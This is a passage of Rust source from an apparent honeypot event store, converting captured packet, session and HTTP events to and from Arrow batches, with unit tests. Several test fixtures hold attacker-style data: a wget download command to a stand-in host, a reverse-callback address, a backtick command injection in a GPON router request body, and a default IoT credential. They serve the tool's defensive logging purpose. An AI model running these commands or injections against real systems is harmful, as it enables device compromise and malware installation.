            Arc::new(self.proto.finish::<UInt8Type>(n(PROTO))),
            Arc::new(self.proto_name.finish(n(PROTO_NAME))),
            Arc::new(self.src.finish(n(SRC))),
            Arc::new(self.sport.finish::<UInt16Type>(n(SPORT))),
            Arc::new(self.dst.finish(n(DST))),
            Arc::new(self.dport.finish::<UInt16Type>(n(DPORT))),
            Arc::new(self.icmp_type.finish::<UInt8Type>(n(ICMP_TYPE))),
            Arc::new(self.icmp_code.finish::<UInt8Type>(n(ICMP_CODE))),
            Arc::new(self.ip_len.finish::<UInt32Type>(n(IP_LEN))),
            Arc::new(self.tcp_flags.finish::<UInt8Type>(n(TCP_FLAGS))),
            Arc::new(self.rx_bytes.finish::<UInt64Type>(n(RX_BYTES))),
            Arc::new(self.tx_bytes.finish::<UInt64Type>(n(TX_BYTES))),
            Arc::new(self.os.finish(n(OS))),
            Arc::new(self.remark.finish(n(REMARK))),
        ];
        let mut columns = columns;
        match self.payload.take() {
            Some(mut c) => {
                columns.push(Arc::new(c.size.finish::<UInt64Type>()));
                columns.push(Arc::new(c.sha256.finish()));
                columns.push(Arc::new(c.head.finish()));
            }
            None => {
                let rows = columns[0].len();
                columns.push(null_column(&DataType::UInt64, rows));
                columns.push(null_column(&DataType::Utf8, rows));
                columns.push(null_column(&DataType::Utf8, rows));
            }
        }
        match self.session.take() {
            Some(mut c) => {
                for t in &mut c.text {
                    columns.push(Arc::new(t.finish()));
                }
                columns.push(Arc::new(c.port.finish::<UInt16Type>()));
                columns.push(Arc::new(c.size.finish::<UInt64Type>()));
                columns.push(Arc::new(c.width.finish::<UInt32Type>()));
                columns.push(Arc::new(c.height.finish::<UInt32Type>()));
                columns.push(Arc::new(c.duration_us.finish::<UInt64Type>()));
            }
            None => {
                let rows = columns[0].len();
                for f in &event_schema().fields()[SESSION_FIRST..HTTP_FIRST] {
                    columns.push(null_column(f.data_type(), rows));
                }
            }
        }
        match self.http.take() {
            Some(mut c) => {
                for t in &mut c.text {
                    columns.push(Arc::new(t.finish()));
                }
                columns.push(Arc::new(c.body_size.finish::<UInt64Type>()));
                columns.push(Arc::new(c.status.finish::<UInt16Type>()));
            }
            None => {
                let rows = columns[0].len();
                for f in &event_schema().fields()[HTTP_FIRST..] {
                    columns.push(null_column(f.data_type(), rows));
                }
            }
        }
        // The columns match the schema by construction.
        RecordBatch::try_new(event_schema(), columns)
            .unwrap_or_else(|e| unreachable!("event columns match the schema: {e}"))
    }
}

/// An all-null column of `rows` rows: a slice of one shared all-null array per type when it
/// is long enough, so that a batch of packet lines does not allocate and zero the ~43 columns
/// it leaves empty (that zeroing and its page faults were 5–8 % of the ingest's time).
fn null_column(data_type: &DataType, rows: usize) -> ArrayRef {
    /// Rows of each shared array: more than a 4 MiB block of the shortest Honeyd lines.
    const SHARED_ROWS: usize = 1 << 18;
    static SHARED: Mutex<Vec<ArrayRef>> = Mutex::new(Vec::new());
    if rows > SHARED_ROWS {
        return new_null_array(data_type, rows);
    }
    let mut shared = SHARED.lock().unwrap_or_else(|e| e.into_inner());
    let array = match shared.iter().find(|a| a.data_type() == data_type) {
        Some(a) => a.clone(),
        None => {
            let a = new_null_array(data_type, SHARED_ROWS);
            shared.push(a.clone());
            a
        }
    };
    drop(shared);
    array.slice(0, rows)
}

/// A batch does not have the event schema's columns with their types.
#[derive(Debug, thiserror::Error)]
#[error("not an honeyscope event batch: {0}")]
pub struct SchemaMismatch(pub String);

/// Reads events back from a batch with the event schema (columns found by name, so a file
/// with extra columns still reads).
pub fn events_from_batch(batch: &RecordBatch) -> Result<Vec<Event>, SchemaMismatch> {
    fn column<'a, T: 'static>(b: &'a RecordBatch, name: &str) -> Result<&'a T, SchemaMismatch> {
        b.column_by_name(name)
            .ok_or_else(|| SchemaMismatch(format!("missing column {name}")))?
            .as_any()
            .downcast_ref::<T>()
            .ok_or_else(|| SchemaMismatch(format!("column {name} has the wrong type")))
    }
    fn get<A: Array>(a: &A, i: usize, value: impl Fn(usize) -> u64) -> Option<u64> {
        (!a.is_null(i)).then(|| value(i))
    }
    let ts = column::<TimestampMicrosecondArray>(batch, col::TS)?;
    let sensor = column::<StringArray>(batch, col::SENSOR)?;
    let kind = column::<StringArray>(batch, col::KIND)?;
    let proto = column::<UInt8Array>(batch, col::PROTO)?;
    let proto_name = column::<StringArray>(batch, col::PROTO_NAME)?;
    let src = column::<StringArray>(batch, col::SRC)?;
    let sport = column::<UInt16Array>(batch, col::SPORT)?;
    let dst = column::<StringArray>(batch, col::DST)?;
    let dport = column::<UInt16Array>(batch, col::DPORT)?;
    let icmp_type = column::<UInt8Array>(batch, col::ICMP_TYPE)?;
    let icmp_code = column::<UInt8Array>(batch, col::ICMP_CODE)?;
    let ip_len = column::<UInt32Array>(batch, col::IP_LEN)?;
    let tcp_flags = column::<UInt8Array>(batch, col::TCP_FLAGS)?;
    let rx_bytes = column::<UInt64Array>(batch, col::RX_BYTES)?;
    let tx_bytes = column::<UInt64Array>(batch, col::TX_BYTES)?;
    let os = column::<StringArray>(batch, col::OS)?;
    let remark = column::<StringArray>(batch, col::REMARK)?;
    // Stores written before payload records have no such columns.
    let payload_size = batch
        .column_by_name(col::PAYLOAD_SIZE)
        .and_then(|c| c.as_any().downcast_ref::<UInt64Array>());
    let payload_text = |name| {
        batch
            .column_by_name(name)
            .and_then(|c| c.as_any().downcast_ref::<StringArray>())
    };
    let (payload_sha256, payload_head) = (
        payload_text(col::PAYLOAD_SHA256),
        payload_text(col::PAYLOAD_HEAD),
    );

    // Stores written before session events (or HTTP requests) have none of their columns.
    let session_cols = SessionColsIn::find(batch);
    let http_cols = HttpColsIn::find(batch);

    fn text(a: &StringArray, i: usize) -> Option<&str> {
        (!a.is_null(i)).then(|| a.value(i))
    }
    let mut out = Vec::with_capacity(batch.num_rows());
    let mut last_sensor: Option<Arc<str>> = None;
    for i in 0..batch.num_rows() {
        let time = Timestamp(ts.value(i));
        // Share one allocation across rows from the same sensor.
        let sensor = match text(sensor, i) {
            None => None,
            Some(s) => match &last_sensor {
                Some(prev) if &**prev == s => Some(prev.clone()),
                _ => {
                    last_sensor = Some(Arc::from(s));
                    last_sensor.clone()
                }
            },
        };
        let bad = |what: &str| SchemaMismatch(format!("row {i}: {what}"));
        let kind_name = kind.value(i);
        if kind_name == "http" {
            let (Some(sc), Some(c)) = (&session_cols, &http_cols) else {
                return Err(bad("an http row without the session and http columns"));
            };
            let addr = |a: &StringArray| {
                text(a, i)
                    .and_then(|s| s.parse::<IpAddr>().ok())
                    .ok_or_else(|| bad("bad address"))
            };
            let port = |a: &UInt16Array| get(a, i, |i| a.value(i) as u64).unwrap_or(0) as u16;
            let mut h = HttpEvent::new(
                time,
                text(sc.text[1], i).ok_or_else(|| bad("no session"))?,
                (addr(src)?, port(sport)).into(),
                (addr(dst)?, port(dport)).into(),
            );
            let t = |k: usize| text(c.text[k], i).map(Box::<str>::from);
            h.sensor = sensor;
            h.method = t(0);
            h.target = t(1);
            h.path = t(2);
            h.query = t(3);
            h.version = t(4);
            h.host = t(5);
            h.user_agent = t(6);
            if let Some(json) = text(c.text[7], i) {
                h.headers = serde_json::from_str(json).map_err(|_| bad("bad http_headers"))?;
            }
            h.body_sha256 = t(8);
            h.body_head = t(9);
            h.exploit = t(10);
            if let Some(json) = text(c.text[11], i) {
                h.commands = serde_json::from_str(json).map_err(|_| bad("bad http_commands"))?;
            }
            h.error = t(12);
            h.profile = text(sc.text[19], i).map(Box::<str>::from);
            h.body_size = get(c.body_size, i, |i| c.body_size.value(i)).unwrap_or(0);
            h.status = port(c.status);
            out.push(Event::Http(Box::new(h)));
            continue;
        }
        if kind_name == "session" {
            let c = session_cols
                .as_ref()
                .ok_or_else(|| bad("a session row without the session columns"))?;
            let addr = |a: &StringArray| {
                text(a, i)
                    .and_then(|s| s.parse::<IpAddr>().ok())
                    .ok_or_else(|| bad("bad address"))
            };
            let t = |k: usize| text(c.text[k], i).map(Box::<str>::from);
            let eventid = text(c.text[0], i)
                .and_then(SessionEventId::from_name)
                .ok_or_else(|| bad("unknown eventid"))?;
            let port = |a: &UInt16Array| get(a, i, |i| a.value(i) as u64).unwrap_or(0) as u16;
            let mut s = SessionEvent::new(
                time,
                eventid,
                text(c.text[1], i).ok_or_else(|| bad("no session"))?,
                text(c.text[2], i).unwrap_or_default(),
                (addr(src)?, port(sport)).into(),
                (addr(dst)?, port(dport)).into(),
            );
            s.sensor = sensor;
            s.username = t(3);
            s.password = t(4);
            s.input = t(5);
            s.url = t(6);
            s.host = t(7);
            s.method = t(8);
            s.outfile = t(9);
            s.destfile = t(10);
            s.filename = t(11);
            s.shasum = t(12);
            s.arch = t(13);
            s.callback = t(14);
            s.name = t(15);
            s.value = t(16);
            s.ttylog = t(17);
            s.message = t(18);
            s.profile = t(19);
            s.port = get(c.port, i, |i| c.port.value(i) as u64).map(|v| v as u16);
            s.size = get(c.size, i, |i| c.size.value(i));
            s.width = get(c.width, i, |i| c.width.value(i) as u64).map(|v| v as u32);
            s.height = get(c.height, i, |i| c.height.value(i) as u64).map(|v| v as u32);
            s.duration_us = get(c.duration_us, i, |i| c.duration_us.value(i));
            out.push(Event::Session(Box::new(s)));
            continue;
        }
        if kind_name == "payload" {
            let addr = |a: &StringArray| {
                text(a, i)
                    .and_then(|s| s.parse::<IpAddr>().ok())
                    .ok_or_else(|| bad("bad address"))
            };
            let (Some(size), Some(sha), Some(head)) = (payload_size, payload_sha256, payload_head)
            else {
                return Err(bad("a payload row without the payload columns"));
            };
            out.push(Event::Payload(PayloadEvent {
                time,
                sensor,
                proto: get(proto, i, |i| proto.value(i) as u64).unwrap_or(6) as u8,
                src: addr(src)?,
                sport: get(sport, i, |i| sport.value(i) as u64).unwrap_or(0) as u16,
                dst: addr(dst)?,
                dport: get(dport, i, |i| dport.value(i) as u64).unwrap_or(0) as u16,
                size: get(size, i, |i| size.value(i)).unwrap_or(0),
                sha256: text(sha, i).unwrap_or_default().into(),
                head: text(head, i).unwrap_or_default().into(),
            }));
            continue;
        }
        let Some(kind) = PacketKind::from_name(kind_name) else {
            let state = LogState::from_name(kind_name).ok_or_else(|| bad("unknown kind"))?;
            out.push(Event::Lifecycle(LifecycleEvent {
                time,
                sensor,
                state,
            }));
            continue;
        };
        let addr = |a: &StringArray| {
            text(a, i)
                .and_then(|s| s.parse::<IpAddr>().ok())
                .ok_or_else(|| bad("bad address"))
        };
        let proto_n = get(proto, i, |i| proto.value(i) as u64).ok_or_else(|| bad("no proto"))?;
        let mut p = PacketEvent::new(time, kind, proto_n as u8, addr(src)?, addr(dst)?);
        p.sensor = sensor;
        if let Some(name) = text(proto_name, i) {
            p.set_proto_name(name);
        }
        p.sport = get(sport, i, |i| sport.value(i) as u64).map(|v| v as u16);
        p.dport = get(dport, i, |i| dport.value(i) as u64).map(|v| v as u16);
        p.icmp_type = get(icmp_type, i, |i| icmp_type.value(i) as u64).map(|v| v as u8);
        p.icmp_code = get(icmp_code, i, |i| icmp_code.value(i) as u64).map(|v| v as u8);
        p.ip_len = get(ip_len, i, |i| ip_len.value(i) as u64).map(|v| v as u32);
        p.tcp_flags = get(tcp_flags, i, |i| tcp_flags.value(i) as u64).map(|v| TcpFlags(v as u8));
        p.rx_bytes = get(rx_bytes, i, |i| rx_bytes.value(i));
        p.tx_bytes = get(tx_bytes, i, |i| tx_bytes.value(i));
        p.os = text(os, i).map(Into::into);
        p.remark = text(remark, i).map(Into::into);
        out.push(Event::Packet(p));
    }
    Ok(out)
}

/// A batch's column `name` as an array of type `T`, if it has one.
fn c<'a, T: 'static>(b: &'a RecordBatch, name: &str) -> Option<&'a T> {
    b.column_by_name(name)?.as_any().downcast_ref::<T>()
}

/// A batch's session columns, when it has all of them.
struct SessionColsIn<'a> {
    text: [&'a StringArray; 20],
    port: &'a UInt16Array,
    size: &'a UInt64Array,
    width: &'a UInt32Array,
    height: &'a UInt32Array,
    duration_us: &'a UInt64Array,
}

impl<'a> SessionColsIn<'a> {
    fn find(batch: &'a RecordBatch) -> Option<Self> {
        let text: Vec<&StringArray> = SESSION_TEXT
            .iter()
            .map(|n| c::<StringArray>(batch, n))
            .collect::<Option<_>>()?;
        Some(SessionColsIn {
            text: text.try_into().ok()?,
            port: c(batch, col::PORT)?,
            size: c(batch, col::SIZE)?,
            width: c(batch, col::WIDTH)?,
            height: c(batch, col::HEIGHT)?,
            duration_us: c(batch, col::DURATION_US)?,
        })
    }
}

/// A batch's HTTP columns, when it has all of them.
struct HttpColsIn<'a> {
    text: [&'a StringArray; 13],
    body_size: &'a UInt64Array,
    status: &'a UInt16Array,
}

impl<'a> HttpColsIn<'a> {
    fn find(batch: &'a RecordBatch) -> Option<Self> {
        let text: Vec<&StringArray> = HTTP_TEXT
            .iter()
            .map(|n| c::<StringArray>(batch, n))
            .collect::<Option<_>>()?;
        Some(HttpColsIn {
            text: text.try_into().ok()?,
            body_size: c(batch, col::HTTP_BODY_SIZE)?,
            status: c(batch, col::HTTP_STATUS)?,
        })
    }
}

/// A batch read from a store made to have the current event schema: columns found by
/// name, and the nullable ones a file written before they were added (payload, session,
/// HTTP) filled with nulls. Extra columns are dropped.
pub fn conform(batch: RecordBatch) -> Result<RecordBatch, SchemaMismatch> {
    let schema = event_schema();
    if batch.schema() == schema {
        return Ok(batch);
    }
    let rows = batch.num_rows();
    let columns = schema
        .fields()
        .iter()
        .map(|f| match batch.column_by_name(f.name()) {
            Some(c) if c.data_type() == f.data_type() => Ok(c.clone()),
            Some(_) => Err(SchemaMismatch(format!(
                "column {} has the wrong type",
                f.name()
            ))),
            None if f.is_nullable() => Ok(null_column(f.data_type(), rows)),
            None => Err(SchemaMismatch(format!("missing column {}", f.name()))),
        })
        .collect::<Result<Vec<_>, _>>()?;
    RecordBatch::try_new(schema, columns).map_err(|e| SchemaMismatch(e.to_string()))
}

#[cfg(test)]
mod tests {
    use super::*;
    use honeyscope_event::{honeyd, LocalZone};

    #[test]
    fn payload_records_survive_a_batch_and_cost_nothing_without_one() {
        let tz = LocalZone::utc();
        let line = |l: &str| honeyd::parse_line(l.as_bytes(), &tz).unwrap();
        let probe =
            line("2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S");
        let payload = Event::Payload(PayloadEvent {
            time: probe.time(),
            sensor: Some("s1".into()),
            proto: 6,
            src: "203.0.113.9".parse().unwrap(),
            sport: 4711,
            dst: "198.51.100.7".parse().unwrap(),
            dport: 23,
            size: 6,
            sha256: "ab".repeat(32).into(),
            head: "root\\x0d\\x0a".into(),
        });
        let events = vec![probe.clone(), payload, probe.clone()];
        let mut b = EventBatchBuilder::with_capacity(2);
        for ev in &events {
            b.append(ev);
        }
        let batch = b.finish();
        assert_eq!(batch.schema(), event_schema());
        assert_eq!(events_from_batch(&batch).unwrap(), events);
        // Without a payload record the columns are all null.
        b.append(&probe);
        let batch = b.finish();
        let c = batch.column_by_name(col::PAYLOAD_SHA256).unwrap();
        assert_eq!(c.null_count(), 1);
        assert_eq!(events_from_batch(&batch).unwrap(), vec![probe]);
    }

    fn session(id: SessionEventId, full: bool) -> Event {
        let mut s = SessionEvent::new(
            Timestamp(1_700_000_000_123_456),
            id,
            "a1b2c3d4e5f6",
            "telnet",
            "203.0.113.9:40000".parse().unwrap(),
            "[2001:db8::7]:2323".parse().unwrap(),
        );
        if full {
            s.sensor = Some("s1".into());
            s.username = Some("root".into());
            s.password = Some("xc3511".into());
            s.input = Some("cd /tmp || cd /var; wget http://198.51.100.1/a -O .d\\x0d".into());
            s.url = Some("http://198.51.100.1:8080/a".into());
            s.host = Some("198.51.100.1".into());
            s.port = Some(8080);
            s.method = Some("wget".into());
            s.outfile = Some("artifacts/ab".into());
            s.destfile = Some("/tmp/.d".into());
            s.filename = Some("/tmp/.e".into());
            s.shasum = Some("ab".repeat(32).into());
            s.size = Some(u64::MAX);
            s.arch = Some("mips".into());
            s.callback = Some("198.51.100.1:4444".into());
            s.width = Some(u32::MAX);
            s.height = Some(0);
            s.name = Some("TERM".into());
            s.value = Some("vt100 日本".into());
            s.ttylog = Some("tty/a1b2c3d4e5f6.cast".into());
            s.duration_us = Some(12_345_678);
            s.message = Some("login attempt [root/xc3511] succeeded".into());
            s.profile = Some("hikvision-dvr".into());
        }
        Event::Session(Box::new(s))
    }

    #[test]
    fn session_events_survive_a_batch_and_cost_nothing_without_one() {
        let tz = LocalZone::utc();
        let probe = honeyd::parse_line(
            b"2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S",
            &tz,
        )
        .unwrap();
        let payload = Event::Payload(PayloadEvent {
            time: probe.time(),
            sensor: None,
            proto: 6,
            src: "203.0.113.9".parse().unwrap(),
            sport: 4711,
            dst: "198.51.100.7".parse().unwrap(),
            dport: 23,
            size: 6,
            sha256: "ab".repeat(32).into(),
            head: "root\\x0d\\x0a".into(),
        });
        // A packet before the first session event, a payload between them, and every
        // eventid bare and with every field.
        let mut events = vec![probe.clone()];
        for (n, &id) in SessionEventId::ALL.iter().enumerate() {
            events.push(session(id, n % 2 == 0));
            events.push(session(id, n % 2 == 1));
            if n == 3 {
                events.push(payload.clone());
                events.push(probe.clone());
            }
        }
        let mut b = EventBatchBuilder::with_capacity(2);
        for ev in &events {
            b.append(ev);
        }
        let batch = b.finish();
        assert_eq!(batch.schema(), event_schema());
        assert_eq!(events_from_batch(&batch).unwrap(), events);
        // Without a session event the columns are all null.
        b.append(&probe);
        b.append(&payload);
        let batch = b.finish();
        let c = batch.column_by_name(col::EVENTID).unwrap();
        assert_eq!(c.null_count(), 2);
        assert_eq!(events_from_batch(&batch).unwrap(), vec![probe, payload]);
    }

    #[test]
    fn batches_without_the_later_columns_conform() {
        // A file written before the session columns: the first 20 columns only.
        let mut b = EventBatchBuilder::default();
        let ev = session(SessionEventId::Connect, true);
        b.append(&ev);
        let full = b.finish();
        let old_schema = Arc::new(Schema::new(
            full.schema().fields()[..SESSION_FIRST].to_vec(),
        ));
        let old =
            RecordBatch::try_new(old_schema, full.columns()[..SESSION_FIRST].to_vec()).unwrap();
        assert!(
            events_from_batch(&old).is_err(),
            "a session row needs its columns"
        );
        let conformed = conform(old).unwrap();
        assert_eq!(conformed.schema(), event_schema());
        assert!(conformed.column_by_name(col::EVENTID).unwrap().is_null(0));
        assert_eq!(conform(full.clone()).unwrap(), full);
        assert_eq!(events_from_batch(&full).unwrap(), vec![ev]);
    }

    fn http(full: bool) -> Event {
        let mut h = HttpEvent::new(
            Timestamp(1_700_000_000_654_321),
            "0f1e2d3c4b5a",
            "[2001:db8::9]:51000".parse().unwrap(),
            "198.51.100.7:8080".parse().unwrap(),
        );
        if full {
            h.sensor = Some("s1".into());
            h.method = Some("POST".into());
            h.target = Some("/GponForm/diag_Form?images/".into());
            h.path = Some("/GponForm/diag_Form".into());
            h.query = Some("images/".into());
            h.version = Some("HTTP/1.1".into());
            h.host = Some("198.51.100.7:8080".into());
            h.user_agent = Some("Hello, World \"日本\"".into());
            h.headers = vec![
                ("Host".into(), "198.51.100.7:8080".into()),
                ("Cookie".into(), "a=1".into()),
                ("Cookie".into(), "b=\\x0d\"".into()),
            ];
            h.body_size = u64::MAX;
            h.body_sha256 = Some("cd".repeat(32).into());
            h.body_head = Some("XWebPageName=diag&dest_host=`busybox+wget`".into());
            h.status = u16::MAX;
            h.exploit = Some("gpon-diag-form".into());
            h.commands = vec!["cd /tmp".into(), "sh x \"y\"".into()];
            h.error = Some("body too large".into());
            h.profile = Some("gpon-ont".into());
        }
        Event::from(h)
    }

    #[test]
    fn http_requests_survive_a_batch_and_cost_nothing_without_one() {
        let tz = LocalZone::utc();
        let probe = honeyd::parse_line(
            b"2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 80: 40 S",
            &tz,
        )
        .unwrap();
        // A packet before the first HTTP request (which makes the session columns too),
        // session events after it sharing those columns, and requests bare and full.
        let events = vec![
            probe.clone(),
            http(true),
            session(SessionEventId::FileDownload, true),
            probe.clone(),
            http(false),
            session(SessionEventId::Connect, false),
            http(true),
        ];
        let mut b = EventBatchBuilder::with_capacity(2);
        for ev in &events {
            b.append(ev);
        }
        let batch = b.finish();
        assert_eq!(batch.schema(), event_schema());
        assert_eq!(events_from_batch(&batch).unwrap(), events);
        let text = |name: &str, i: usize| {
            let c = batch.column_by_name(name).unwrap();
            let c = c.as_any().downcast_ref::<StringArray>().unwrap();
            (!c.is_null(i)).then(|| c.value(i).to_string())
        };
        // The shared columns say what an HTTP row is; the session's own stay null.
        assert_eq!(text(col::KIND, 1).as_deref(), Some("http"));
        assert_eq!(
            text(col::EVENTID, 1).as_deref(),
            Some("honeyscope.http.request")
        );
        assert_eq!(text(col::PROTOCOL, 1).as_deref(), Some("http"));
        assert_eq!(text(col::SESSION, 1).as_deref(), Some("0f1e2d3c4b5a"));
        assert_eq!(text(col::PROFILE, 1).as_deref(), Some("gpon-ont"));
        assert_eq!(
            text(col::HOST, 1),
            None,
            "http_host, not the download's host"
        );
        assert_eq!(text(col::METHOD, 1), None);
        assert_eq!(text(col::HTTP_METHOD, 1).as_deref(), Some("POST"));
        assert_eq!(
            text(col::HTTP_HEADERS, 1).as_deref(),
            Some(r#"[["Host","198.51.100.7:8080"],["Cookie","a=1"],["Cookie","b=\\x0d\""]]"#)
        );
        assert_eq!(
            text(col::HTTP_COMMANDS, 1).as_deref(),
            Some(r#"["cd /tmp","sh x \"y\""]"#)
        );
        assert_eq!(text(col::HTTP_HEADERS, 4), None, "no headers: null");
        assert_eq!(text(col::HTTP_METHOD, 2), None, "a session row");

        // Without an HTTP request the columns are all null, and session events read alone.
        b.append(&probe);
        b.append(&session(SessionEventId::LoginFailed, true));
        let batch = b.finish();
        let c = batch.column_by_name(col::HTTP_STATUS).unwrap();
        assert_eq!(c.null_count(), 2);
        assert_eq!(
            events_from_batch(&batch).unwrap(),
            vec![probe, session(SessionEventId::LoginFailed, true)]
        );
    }

    #[test]
    fn batches_without_the_http_columns_conform() {
        // A file written before the HTTP columns: everything up to them.
        let mut b = EventBatchBuilder::default();
        let ev = http(true);
        b.append(&ev);
        let full = b.finish();
        let old_schema = Arc::new(Schema::new(full.schema().fields()[..HTTP_FIRST].to_vec()));
        let old = RecordBatch::try_new(old_schema, full.columns()[..HTTP_FIRST].to_vec()).unwrap();
        assert!(
            events_from_batch(&old).is_err(),
            "an http row needs its columns"
        );
        let conformed = conform(old).unwrap();
        assert_eq!(conformed.schema(), event_schema());
        assert!(conformed
            .column_by_name(col::HTTP_STATUS)
            .unwrap()
            .is_null(0));
        assert_eq!(conform(full.clone()).unwrap(), full);
        assert_eq!(events_from_batch(&full).unwrap(), vec![ev]);
        assert_eq!(
            event_schema().fields().len(),
            HTTP_FIRST + HTTP_TEXT.len() + 2
        );
    }

    #[test]
    fn every_field_survives_a_batch() {
        let tz = LocalZone::utc();
        let lines = [
            "2016-04-01-00:00:01.0000 tcp(6) - 203.0.113.9 4711 198.51.100.7 23: 40 S [Linux 2.6 ] {Honeyd Scanner?}",
            "2023-04-28-15:58:34.4550 tcp(6) E 192.168.10.4 37230 185.213.114.29 80: 734 13762",
            "2023-04-28-15:53:38.9189 icmp(1) - 192.168.10.4 185.213.114.29: 8(0): 84",
            "2016-04-01-00:00:01.0000 GRE(47) - 203.0.113.9 198.51.100.7: 64",
            "2016-04-01-00:00:01.0000 tcp(6) - 2001:db8::1 4711 2001:db8::2 23: 60 SA",
            "2023-04-28-13:47:14.3718 honeyd log started ------",
            "2016-04-01-00:00:01.0000 tcp(6) - 2001:DB8:0:0::1 4711 2001:db8::2 23: 60 SA",
        ];
        let mut events: Vec<Event> = lines
            .iter()
            .map(|l| honeyd::parse_line(l.as_bytes(), &tz).unwrap())
            .collect();
        events[1].set_sensor(Some("s1".into()));
        let mut b = EventBatchBuilder::with_capacity(2);
        for ev in &events {
            b.append(ev);
        }
        let batch = b.finish();
        assert_eq!(batch.num_rows(), events.len());
        assert_eq!(events_from_batch(&batch).unwrap(), events);
        assert!(b.is_empty());
        // The bulk path for Honeyd lines gives the same rows as the event path, whether the
        // fields are copied from inside the block (fields near its end are not) or not.
        let block = lines.join("\n");
        let mut plain = events.clone();
        plain[1].set_sensor(None);
        for from in [block.as_bytes(), b"elsewhere"] {
            for line in block.lines() {
                match honeyd::parse_view(line.as_bytes(), &tz).unwrap() {
                    honeyd::LineView::Packet(p) => b.append_line(&p, None, from),
                    honeyd::LineView::Lifecycle(l) => b.append(&Event::Lifecycle(l)),
                }
            }
            assert_eq!(events_from_batch(&b.finish()).unwrap(), plain);
        }
    }

    #[test]
    fn column_bits_gathers_each_rows_bit() {
        let mut seed = 0x9e37_79b9_7f4a_7c15u64;
        for len in [0, 1, 3, 4, 5, 31, 63, 64] {
            let rows: Vec<u16> = (0..len)
                .map(|_| {
                    seed ^= seed << 13;
                    seed ^= seed >> 7;
                    seed ^= seed << 17;
                    seed as u16
                })
                .collect();
            for shift in 0..16 {
                let want = rows
                    .iter()
                    .enumerate()
                    .fold(0u64, |w, (j, m)| w | (u64::from(m >> shift & 1) << j));
                assert_eq!(column_bits(&rows, shift), want, "{len} rows, bit {shift}");
            }
        }
    }

    #[test]
    fn the_packet_columns_come_first() {
        let schema = event_schema();
        assert_eq!(schema.field(PACKET_COLUMNS - 1).name(), col::REMARK);
        assert_eq!(schema.field(PACKET_COLUMNS).name(), col::PAYLOAD_SIZE);
    }

    #[test]
    fn row_masks_give_validity_per_column() {
        let mut masks = RowMasks::with_capacity(0);
        for m in [0b011, 0b001, 0b011, 0b001] {
            masks.push(m);
        }
        assert_eq!(masks.nulls(0b001), None);
        assert_eq!(masks.nulls(0b100).map(|n| n.null_count()), Some(4));
        let mixed = masks.nulls(0b010).unwrap();
        assert_eq!(
            (0..4).map(|i| mixed.is_valid(i)).collect::<Vec<_>>(),
            [true, false, true, false]
        );
        assert_eq!(RowMasks::with_capacity(0).nulls(1), None);
        // Past a word of 64 rows, and a last word that is not full.
        let mut masks = RowMasks::with_capacity(0);
        for i in 0..200u16 {
            masks.push(if i % 3 == 0 { 0b1000_0000 } else { 0 });
        }
        let valid = masks.nulls(0b1000_0000).unwrap();
        assert_eq!(valid.len(), 200);
        for i in 0..200 {
            assert_eq!(valid.is_valid(i), i % 3 == 0, "row {i}");
        }
    }

    #[test]
    fn fast_ipv4_format_matches_std() {
        let ips = [
            "0.0.0.0",
            "255.255.255.255",
            "10.0.100.9",
            "1.22.133.4",
            "2001:db8::1",
            "::ffff:1.2.3.4",
        ];
        let mut b = Texts::with_capacity(0, 0);
        let mut masks = RowMasks::with_capacity(0);
        for ip in ips {
            let mut m = 0;
            b.put_ip(ip.parse().unwrap(), 1, &mut m);
            masks.push(m);
        }
        let mut m = 0;
        b.put(None, 1, &mut m);
        masks.push(m);
        let arr = b.finish(masks.nulls(1));
        for (i, ip) in ips.iter().enumerate() {
            assert_eq!(arr.value(i), *ip);
        }
        assert!(arr.is_null(ips.len()));
    }
}
